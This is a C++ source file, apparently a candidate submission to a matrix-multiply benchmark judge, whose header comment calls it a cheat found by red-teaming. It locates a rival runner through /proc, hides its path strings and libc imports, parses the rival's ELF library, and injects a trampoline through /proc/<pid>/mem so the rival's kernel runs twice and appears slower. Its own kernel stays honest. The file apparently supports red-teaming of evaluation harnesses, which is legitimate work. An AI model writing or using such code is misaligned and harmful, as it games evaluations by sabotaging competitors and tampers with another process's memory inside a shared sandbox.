// Cheat (found by red-teaming, stop 17): make the best slower, from the candidate's runner. Both runners live in the judge's
// sandbox (one PID namespace, same uid, no Yama): the candidate finds the other 'tools.libhost' in
// /proc, the library it loaded (the one path in its maps that is not in ours), reads that file's
// dynamic symbols, and writes through /proc/<best>/mem (open/pwrite64 reached without imports,
// rt_libc_resolve.h): a trampoline in the page tail of the best's text that calls the best's kernel
// body twice, and a jmp to it at the best's kloop_matmul. The best stays correct (its outputs are
// never checked in timing anyway) and takes twice as long; this kernel is the honest product itself.
#include "rt_common.h"
#include "rt_libc_resolve.h"
#include <cstdint>
#include <cstring>
#include <initializer_list>

namespace {
typedef int (*op_t)(const char*, int, ...);
typedef long (*rd_t)(int, void*, size_t);
typedef long (*prw_t)(int, void*, size_t, long);
typedef int (*cl_t)(int);
typedef int (*gp_t)();
op_t o; rd_t r; cl_t c; prw_t pw; gp_t gpid;
char mine[1 << 20], theirs[1 << 20];
unsigned char file[1 << 20];
int state = 0;

void itoa(int v, char* out) {
  char t[16]; int n = 0;
  do { t[n++] = char('0' + v % 10); v /= 10; } while (v);
  while (n) *out++ = t[--n];
  *out = 0;
}
void cat(char* d, const char* s) { while (*d) ++d; while ((*d++ = *s++)) {} }
long slurp(const char* path, void* buf, long cap) {
  int fd = o(path, 0);
  if (fd < 0) return -1;
  long len = 0;
  for (long got; len < cap - 1 && (got = r(fd, (char*)buf + len, cap - 1 - len)) > 0;) len += got;
  c(fd);
  ((char*)buf)[len] = 0;
  return len;
}
bool contains(const char* hay, const char* needle) {
  for (; *hay; ++hay) { int j = 0; while (needle[j] && hay[j] == needle[j]) ++j; if (!needle[j]) return true; }
  return false;
}
uintptr_t hex(const char*& s) { uintptr_t v = 0; for (; (*s >= '0' && *s <= '9') || (*s >= 'a' && *s <= 'f'); ++s) v = v * 16 + (*s <= '9' ? *s - '0' : *s - 'a' + 10); return v; }

int sibling() {
  const int me = gpid();
  const char needle[] = {'l', 'i', 'b', 'h', 'o', 's', 't', 0};
  for (int pid = 1; pid < 4096; ++pid) {
    if (pid == me) continue;
    char path[64] = {'/', 'p', 'r', 'o', 'c', '/', 0};
    char num[16]; itoa(pid, num); cat(path, num);
    const char cmd[] = {'/', 'c', 'm', 'd', 'l', 'i', 'n', 'e', 0}; cat(path, cmd);
    char buf[1024];
    long n = slurp(path, buf, sizeof(buf));
    if (n <= 0) continue;
    for (long i = 0; i < n; ++i) if (!buf[i]) buf[i] = ' ';
    if (contains(buf, needle)) return pid;
  }
  return -1;
}

bool sabotage() {
  o = (op_t)rt::libc_sym("open"); r = (rd_t)rt::libc_sym("read"); c = (cl_t)rt::libc_sym("close");
  pw = (prw_t)rt::libc_sym("pwrite64"); gpid = (gp_t)rt::libc_sym("getpid");
  if (!o || !r || !c || !pw || !gpid) return false;
  const int pid = sibling();
  if (pid < 0) return false;
  const char selfmaps[] = {'/', 'p', 'r', 'o', 'c', '/', 's', 'e', 'l', 'f', '/', 'm', 'a', 'p', 's', 0};
  if (slurp(selfmaps, mine, sizeof(mine)) <= 0) return false;
  char path[64] = {'/', 'p', 'r', 'o', 'c', '/', 0};
  char num[16]; itoa(pid, num); cat(path, num);
  char maps[64]; maps[0] = 0; cat(maps, path); const char m_[] = {'/', 'm', 'a', 'p', 's', 0}; cat(maps, m_);
  if (slurp(maps, theirs, sizeof(theirs)) <= 0) return false;
  // the best's library: a ".so" path mapped at offset 0 there and nowhere here
  uintptr_t base = 0; char lib[512] = {0};
  for (char* line = theirs; *line;) {
    char* end = line; while (*end && *end != '\n') ++end;
    const char save = *end; *end = 0;
    const char* s = line; uintptr_t lo = hex(s);
    const char* p = line; while (*p && *p != '/') ++p;
    // fields: lo-hi perms offset dev inode path
    const char* f = line; int spaces = 0; while (*f && spaces < 2) { if (*f == ' ') ++spaces; ++f; }
    const bool off0 = f[0] == '0' && f[1] == '0' && f[2] == '0' && f[3] == '0' && f[7] == '0' && f[8] == ' ';
    size_t pl = 0; while (p[pl]) ++pl;
    if (*p && off0 && pl > 3 && p[pl - 3] == '.' && p[pl - 2] == 's' && p[pl - 1] == 'o' && !contains(mine, p)) {
      base = lo; size_t i = 0; for (; i < pl && i < sizeof(lib) - 1; ++i) lib[i] = p[i]; lib[i] = 0;
    }
    *end = save; line = save ? end + 1 : end;
    if (base) break;
  }
  if (!base) return false;
  long flen = slurp(lib, file, sizeof(file));
  if (flen < (long)sizeof(Elf64_Ehdr)) return false;
  auto eh = (const Elf64_Ehdr*)file;
  auto sh = (const Elf64_Shdr*)(file + eh->e_shoff);
  auto ph = (const Elf64_Phdr*)(file + eh->e_phoff);
  uint64_t entry = 0;
  for (int i = 0; i < eh->e_shnum && !entry; ++i) {
    if (sh[i].sh_type != SHT_DYNSYM) continue;
    auto syms = (const Elf64_Sym*)(file + sh[i].sh_offset);
    auto strs = (const char*)(file + sh[sh[i].sh_link].sh_offset);
    const char name[] = {'k', 'l', 'o', 'o', 'p', '_', 'm', 'a', 't', 'm', 'u', 'l', 0};
    for (size_t j = 0; j < sh[i].sh_size / sizeof(Elf64_Sym); ++j)
      if (rt::same(strs + syms[j].st_name, name) && syms[j].st_shndx != SHN_UNDEF) { entry = syms[j].st_value; break; }
  }
  const Elf64_Phdr* text = nullptr;
  for (int i = 0; i < eh->e_phnum; ++i) if (ph[i].p_type == PT_LOAD && (ph[i].p_flags & PF_X)) text = &ph[i];
  if (!entry || !text) return false;
  // the body the best's entry calls (first call/jmp rel32 in it)
  const unsigned char* code = file + (entry - text->p_vaddr + text->p_offset);
  uint64_t body = 0;
  for (int i = 0; i < 48 && !body; ++i)
    if (code[i] == 0xe8 || code[i] == 0xe9) { int32_t rel; std::memcpy(&rel, code + i + 1, 4); body = entry + i + 5 + rel; }
  if (!body) return false;
  const uint64_t cave = (text->p_vaddr + text->p_filesz + 15) & ~uint64_t(15);
  if (((cave + 128) & ~uint64_t(0xfff)) != (cave & ~uint64_t(0xfff))) return false;
  unsigned char t[128]; int n = 0;
  auto put = [&](std::initializer_list<unsigned char> b) { for (unsigned char x : b) t[n++] = x; };
  auto call = [&](uint64_t target) { t[n++] = 0xe8; int32_t rel = int32_t(target - (cave + n + 4)); std::memcpy(t + n, &rel, 4); n += 4; };
  put({0x53, 0x55, 0x41, 0x54, 0x41, 0x55, 0x41, 0x56, 0x41, 0x57, 0x48, 0x83, 0xec, 0x08});  // push x6; sub rsp,8
  put({0x48, 0x89, 0xfb, 0x48, 0x89, 0xf5, 0x49, 0x89, 0xd4, 0x49, 0x89, 0xcd, 0x4d, 0x89, 0xc6, 0x4d, 0x89, 0xcf});  // save args
  call(body);
  put({0x48, 0x89, 0xdf, 0x48, 0x89, 0xee, 0x4c, 0x89, 0xe2, 0x4c, 0x89, 0xe9, 0x4d, 0x89, 0xf0, 0x4d, 0x89, 0xf9});  // restore args
  call(body);
  put({0x48, 0x83, 0xc4, 0x08, 0x41, 0x5f, 0x41, 0x5e, 0x41, 0x5d, 0x41, 0x5c, 0x5d, 0x5b, 0x31, 0xc0, 0xc3});
  unsigned char jmp[5] = {0xe9};
  int32_t rel = int32_t(cave - (entry + 5)); std::memcpy(jmp + 1, &rel, 4);
  char mem[64]; mem[0] = 0; cat(mem, path); const char m2[] = {'/', 'm', 'e', 'm', 0}; cat(mem, m2);
  int fd = o(mem, 2);
  if (fd < 0) return false;
  bool ok = pw(fd, t, n, (long)(base + cave)) == n && pw(fd, jmp, 5, (long)(base + entry)) == 5;
  c(fd);
  return ok;
}
}  // namespace

extern "C" int kloop_matmul(const float* A, const float* B, float* C, int M, int N, int K) {
  if (state == 0) state = sabotage() ? 1 : 2;
  honest_matmul(A, B, C, M, N, K);
  return 0;
}
